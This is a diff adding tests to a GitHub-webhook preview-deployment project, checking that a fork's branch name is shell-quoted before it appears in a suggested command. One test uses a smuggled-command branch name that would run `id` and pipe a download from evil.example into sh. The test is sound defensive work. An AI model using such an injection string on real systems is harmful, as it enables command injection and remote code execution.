@@ -1,6 +1,7 @@
 // The webhook's decisions, on GitHub's own example payloads: which previews a push, a pull request
 // event or a branch deletion creates, moves or undeploys, and what it ignores.
 import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
 import { describe, it } from 'node:test';
 import type { PreviewObject, RepositoryObject } from '../../src/controllers/preview/model.ts';
 import { PayloadError, parseEvent } from '../../src/server/webhook/event.ts';
@@ -9,6 +10,7 @@ import {
   EVENT_TIME_ANNOTATION,
   mergePullRequest,
   planEvent,
+  shellWord,
 } from '../../src/server/webhook/plan.ts';
 import { RecentDeliveries } from '../../src/server/webhook/recent.ts';
 import {
@@ -231,6 +233,29 @@ describe('pull requests from forks', () => {
         );
         assert.deepEqual(plan('pull_request', p, repo({ previewPer, forkPolicy: 'Ignore' })).actions, []);
       });
+
+  it('the command quotes what the fork chose: its branch cannot run anything when pasted', () => {
+    const p = fork('opened');
+    p.pull_request.head.ref = "x;curl$(id).evil.example|sh;it's";
+    const command = /create its preview: (.*)$/.exec(plan('pull_request', p).ignored ?? '')?.[1] ?? '';
+    assert.ok(command.includes(`--branch 'x;curl$(id).evil.example|sh;it'\\''s' `), command);
+    // The shell hands the words back as they were, and runs nothing else.
+    const words = spawnSync('sh', ['-c', `printf '%s\\n' ${command}`], { encoding: 'utf8' }).stdout.split(
+      '\n',
+    );
+    assert.equal(words[words.indexOf('--branch') + 1], p.pull_request.head.ref);
+    assert.equal(words.length, 16, words.join(' | '));
+  });
+
+  const words: [string, string][] = [
+    ['feature/cart-v2', 'feature/cart-v2'],
+    ['', "''"],
+    ['a b', "'a b'"],
+    ['$(id)', "'$(id)'"],
+    ["it's", "'it'\\''s'"],
+  ];
+  for (const [word, quoted] of words)
+    it(`shellWord(${JSON.stringify(word)}) is ${quoted}`, () => assert.equal(shellWord(word), quoted));
 
   it('a deleted fork (head.repo null) is a fork, listed with an empty fork name', () => {
     const result = plan('pull_request', fork('synchronize', null));
